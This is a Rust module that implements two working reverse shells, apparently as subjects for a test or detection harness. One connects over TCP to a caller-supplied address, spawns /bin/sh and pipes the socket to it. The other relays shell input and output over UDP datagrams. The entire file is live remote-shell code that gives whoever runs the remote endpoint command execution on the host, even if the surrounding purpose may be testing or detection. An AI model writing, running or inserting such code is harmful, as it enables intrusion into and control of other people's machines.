//! Shells on pipes, with a relay that holds the connection.

use crate::{Outcome, failed};
use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream, UdpSocket};
use std::process::{Child, ChildStdin, ChildStdout, Command, Stdio};
use std::thread;

fn shell() -> Result<(Child, ChildStdin, ChildStdout), String> {
    let mut child = Command::new("/bin/sh")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .map_err(failed("/bin/sh"))?;
    match (child.stdin.take(), child.stdout.take()) {
        (Some(stdin), Some(stdout)) => Ok((child, stdin, stdout)),
        _ => Err("/bin/sh: no pipes".into()),
    }
}

/// TCP socket ⇄ two pipes ⇄ shell.
pub fn pipes(spec: &str) -> Outcome {
    let addr = subjects::addr::resolve(spec).map_err(|err| err.to_string())?;
    let mut socket = TcpStream::connect(addr).map_err(failed(spec))?;
    let (mut child, mut stdin, mut stdout) = shell()?;
    let mut answers = socket.try_clone().map_err(failed("dup"))?;
    let back = thread::spawn(move || io::copy(&mut stdout, &mut answers).map(drop));
    // Either side may hang up first; both are the end of the session, not a failure.
    drop(io::copy(&mut socket, &mut stdin));
    drop(stdin);
    drop(back.join());
    child.wait().map(drop).map_err(failed("wait"))
}

/// The same over datagrams: sendto and recvfrom on an unconnected socket. `greeting` is sent first; an echo
/// service returns it, and the shell runs it.
pub fn udp(spec: &str, greeting: &str) -> Outcome {
    let addr = subjects::addr::resolve(spec).map_err(|err| err.to_string())?;
    let any: SocketAddr = if addr.is_ipv6() { ([0_u16; 8], 0).into() } else { ([0_u8; 4], 0).into() };
    let socket = UdpSocket::bind(any).map_err(failed("bind"))?;
    socket.send_to(format!("{greeting}\n").as_bytes(), addr).map_err(failed(spec))?;
    let (mut child, mut stdin, mut stdout) = shell()?;
    let back = socket.try_clone().map_err(failed("dup"))?;
    thread::spawn(move || -> io::Result<()> {
        let mut buffer = [0; 1024];
        loop {
            let read = stdout.read(&mut buffer)?;
            if read == 0 {
                return Ok(());
            }
            back.send_to(&buffer[..read], addr)?;
        }
    });
    let mut buffer = [0; 1024];
    loop {
        let (read, from) = socket.recv_from(&mut buffer).map_err(failed("recvfrom"))?;
        // A shell that has exited is the end of the session.
        if from != addr || stdin.write_all(&buffer[..read]).is_err() {
            break;
        }
    }
    child.wait().map(drop).map_err(failed("wait"))
}
